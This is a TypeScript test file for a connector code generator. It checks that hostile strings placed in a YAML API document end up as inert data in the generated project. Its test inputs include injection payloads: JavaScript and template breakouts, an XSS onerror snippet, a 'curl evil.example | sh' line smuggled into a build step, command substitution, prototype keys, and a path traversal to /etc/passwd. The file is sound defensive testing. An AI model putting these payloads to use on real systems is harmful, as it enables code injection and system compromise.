import { cpSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { load as parseYaml } from "js-yaml";
import { parseSync } from "oxc-parser";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Refusal } from "../../src/diagnostics/index.js";
import { renderConnector } from "../../src/render/index.js";
import { stockTemplates } from "../../src/render/layers/stock-templates.js";
import type { RenderedFile } from "../../src/render/types.js";
import { planOfValue } from "../support/generate.js";
import { repository } from "../support/golden.js";

/**
 * Design section 9: a hostile string in a document is data in the project, wherever it stands. Where it is prose, the
 * project differs from that of a harmless word in nothing but that text; where it is a name, a value or a keyword, the code
 * still consists of nothing but what the emitters can say.
 */
const hostile = [
  `x","x":(globalThis.__canary=1),"y`,
  "`${globalThis.__canary=1}`",
  "*/ globalThis.__canary=1 /* // \u2028 globalThis.__canary=1 //",
  "<%- globalThis.__canary=1 %><%= 1 %>",
  "</script><img src=x onerror=alert(1)>![x](https://evil.example/x.png)[y](javascript:alert(1))",
  "x\n  - run: curl evil.example | sh\nRUN curl evil.example\nNODE_OPTIONS=--require=/tmp/x $(touch CANARY) ${{ secrets.X }}",
  "__proto__",
  "constructor",
  "../../../../etc/passwd\u0000",
  "\u202eevil\u200b\u{e0041}\ud800",
  "it's \\\" \\' \\",
];

const invisible =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u034f\u061c\u180e\u200b-\u200f\u202a-\u202e\u2028\u2029\u2060-\u206f\u3164\ufeff\uffa0\ufff9-\ufffb\u{e0000}-\u{e007f}]/u;

type Node = null | boolean | number | string | Node[] | { [key: string]: Node };
type Path = readonly (string | number)[];

const shop = parseYaml(readFileSync(join(repository, "examples/shop.yaml"), "utf8")) as Node;

/** Only what a document can shape: the rest is copied. */
const templates = mkdtempSync(join(tmpdir(), "templates-"));
let fixed: string;
let comments: ReadonlySet<string>;

beforeAll(async () => {
  cpSync(stockTemplates(), templates, {
    recursive: true,
    filter: (path) => !/[\\/](?:runtime|test|node_modules|dist)$|package-lock/.test(path),
  });
  const files = await filesOf(shop);
  fixed = constantFiles(files);
  comments = new Set(codeOf(files).flatMap(commentsOf));
});

afterAll(() => rmSync(templates, { recursive: true }));

const places = placesOf(shop);
const isProse = ({ path, isKey }: Place): boolean =>
  !isKey && /^(?:title|description|summary|version)$/.test(String(path.at(-1)));

describe.each(hostile)("%j", (text) => {
  it("as every prose at once changes no code, only texts", async () => {
    const put = (word: string) =>
      places.filter(isProse).reduce((document, place) => replaced(document, place, word), shop);
    const harmless = await filesOf(put("harmless"));
    const files = await filesOf(put(text));
    expect(files.map(({ path }) => path)).toEqual(harmless.map(({ path }) => path));
    expect(codeOf(files).map(shapeOf)).toEqual(codeOf(harmless).map(shapeOf));
    expectHarmless(files);
  });

  it.each(
    places
      .filter((_, index) => index % 3 === hostile.indexOf(text) % 3)
      .map((place) => [nameOf(place), place] as const),
  )("at %s is data", async (_, place) => {
    const files = await tryFiles(replaced(shop, place, text));
    if (files !== undefined) expectHarmless(files);
  });
});

function expectHarmless(files: readonly RenderedFile[]): void {
  expect(constantFiles(files)).toBe(fixed);
  for (const { path, contents } of files) {
    expect(path).toMatch(/^(?!.*\.\.)[A-Za-z0-9._/-]+$/);
    expect(invisible.exec(contents)?.[0], path).toBeUndefined();
    if (path.endsWith(".json")) JSON.parse(contents);
  }
  for (const line of textOf(files, ".env.example").split("\n"))
    expect(line).toMatch(/^(?:#[ \x21-\x7e]*|[A-Z][A-Z0-9_]*=(?:stdio)?|)$/);
  const markdown = textOf(files, "README.md").replace(/```[\s\S]*?```|`[^`\n]*`/g, "");
  expect(markdown).not.toMatch(/<[a-z!/]|\]\(\s*(?!SECURITY\.md)|!\[/i);
  for (const file of codeOf(files)) {
    expect(
      commentsOf(file).filter((comment) => !comments.has(comment)),
      file.path,
    ).toEqual([]);
    expectOnlyData(file);
  }
}

interface Place {
  readonly path: Path;
  readonly isKey: boolean;
}

/** Every string of a document, and every name that its author chose. */
function placesOf(node: Node, path: Path = []): Place[] {
  if (typeof node === "string") return [{ path, isKey: false }];
  if (node === null || typeof node !== "object") return [];
  if (Array.isArray(node)) return node.flatMap((item, index) => placesOf(item, [...path, index]));
  const chosen = /^(?:properties|scopes|schemas|securitySchemes|content|paths|responses|parameters)$/.test(
    String(path.at(-1) ?? "-"),
  );
  return Object.keys(node).flatMap((key) => [
    ...(chosen ? [{ path: [...path, key], isKey: true }] : []),
    ...placesOf(node[key] ?? null, [...path, key]),
  ]);
}

/** The document with another text at one place; a name keeps what it named. */
function replaced(document: Node, { path, isKey }: Place, text: string): Node {
  const [step, ...further] = path;
  if (step === undefined || document === null || typeof document !== "object") return text;
  if (Array.isArray(document))
    return document.map((item, index) => (index === step ? replaced(item, { path: further, isKey }, text) : item));
  const entries = Object.entries(document).map(([key, value]): [string, Node] => {
    if (key !== step) return [key, value];
    return isKey && further.length === 0 ? [text, value] : [key, replaced(value, { path: further, isKey }, text)];
  });
  return Object.fromEntries(entries);
}

function nameOf({ path, isKey }: Place): string {
  return `${path.join("/")}${isKey ? " (the name)" : ""}`;
}

async function filesOf(document: Node): Promise<readonly RenderedFile[]> {
  return renderConnector(await planOfValue(document), { stock: templates });
}

/** Undefined when the document is refused, which is as good as harmless. */
async function tryFiles(document: Node): Promise<readonly RenderedFile[] | undefined> {
  try {
    return await filesOf(document);
  } catch (error) {
    if (error instanceof Refusal) return undefined;
    throw error;
  }
}

function textOf(files: readonly RenderedFile[], wanted: string): string {
  return files.find(({ path }) => path === wanted)?.contents ?? "";
}

/** Files whose bytes no document may change. */
function constantFiles(files: readonly RenderedFile[]): string {
  return files
    .filter(({ path }) =>
      /^(?:Dockerfile|compose\.yaml|package\.json|tsconfig.*|vitest.*|SECURITY\.md|\.(?!env)[a-z./]+)$/.test(path),
    )
    .map(({ path, contents }) => `${path}\n${contents}`)
    .join("\n");
}

/** The code that a document shapes. */
function codeOf(files: readonly RenderedFile[]): readonly RenderedFile[] {
  return files.filter(({ path }) => /^src\/(?:tools|schemas)\/|^src\/(?:policy|about|upstream)\.ts$/.test(path));
}

function commentsOf({ path, contents }: RenderedFile): readonly string[] {
  return parseSync(path, contents).comments.map(({ value }) => value);
}

function shapeOf({ path, contents }: RenderedFile): unknown {
  return JSON.parse(
    JSON.stringify(parseSync(path, contents).program, (key, value: unknown) => (textual.has(key) ? undefined : value)),
  );
}

const textual = new Set(["start", "end", "range", "value", "raw"]);

/** All that the emitters can say. No assignment, no sequence, no template literal, no operator but a minus sign. */
const said: ReadonlySet<string> = new Set([
  "Program",
  "ImportDeclaration",
  "ImportSpecifier",
  "ExportNamedDeclaration",
  "VariableDeclaration",
  "VariableDeclarator",
  "Identifier",
  "Literal",
  "ObjectExpression",
  "Property",
  "ArrayExpression",
  "CallExpression",
  "MemberExpression",
  "UnaryExpression",
  "ArrowFunctionExpression",
  "ExpressionStatement",
  "AwaitExpression",
  "ImportExpression",
  "ParenthesizedExpression",
  "TSTypeAnnotation",
  "TSTypeReference",
  "TSQualifiedName",
  "TSTypeParameterInstantiation",
  "TSSatisfiesExpression",
  "TSTypeAliasDeclaration",
  "TSTypeOperator",
  "TSTypeQuery",
  "TSArrayType",
  "TSStringKeyword",
]);

function expectOnlyData({ path, contents }: RenderedFile): void {
  const { program, errors } = parseSync(path, contents);
  expect(errors, path).toEqual([]);
  const known = new Set(["Readonly", "Record"]);
  const used: string[] = [];
  walk(program, (node, parent, key) => {
    expect(said, path).toContain(node["type"]);
    if (node["type"] === "UnaryExpression") expect(node["operator"]).toBe("-");
    if (node["type"] !== "Identifier") return;
    const declares =
      parent["type"] === "ImportSpecifier" ||
      parent["type"] === "VariableDeclarator" ||
      parent["type"] === "TSTypeAliasDeclaration";
    const isLabel =
      (parent["type"] === "Property" && key === "key") ||
      (parent["type"] === "MemberExpression" && key === "property") ||
      parent["type"] === "TSQualifiedName";
    if (declares) known.add(String(node["name"]));
    else if (!isLabel || parent["computed"] === true) used.push(String(node["name"]));
  });
  expect(
    used.filter((name) => !known.has(name)),
    path,
  ).toEqual([]);
}

type SyntaxNode = Readonly<Record<string, unknown>>;

function walk(
  node: unknown,
  visit: (node: SyntaxNode, parent: SyntaxNode, key: string) => void,
  parent: SyntaxNode = {},
  parentKey = "",
): void {
  if (Array.isArray(node)) return node.forEach((item) => walk(item, visit, parent, parentKey));
  if (!isSyntaxNode(node)) return;
  visit(node, parent, parentKey);
  for (const [key, value] of Object.entries(node)) walk(value, visit, node, key);
}

function isSyntaxNode(value: unknown): value is SyntaxNode {
  return typeof value === "object" && value !== null && "type" in value && typeof value.type === "string";
}
